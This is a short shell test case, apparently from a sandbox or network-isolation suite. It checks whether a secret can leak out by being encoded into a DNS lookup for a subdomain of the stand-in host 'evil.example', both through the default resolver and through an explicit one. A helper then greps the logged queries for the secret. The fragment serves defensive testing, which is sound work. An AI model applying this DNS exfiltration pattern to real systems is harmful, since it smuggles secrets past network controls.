# N4: sends a secret away in a question for a name
# open: normal worker
# why: the network is the host's there
attack() {
	"$PROBE" resolve "$W1$W2.evil.example" ""
	"$PROBE" resolve "$W1$W2.evil.example" 192.0.2.53
} >/dev/null
escaped() { grep -q "$W" "$D/asked"; }
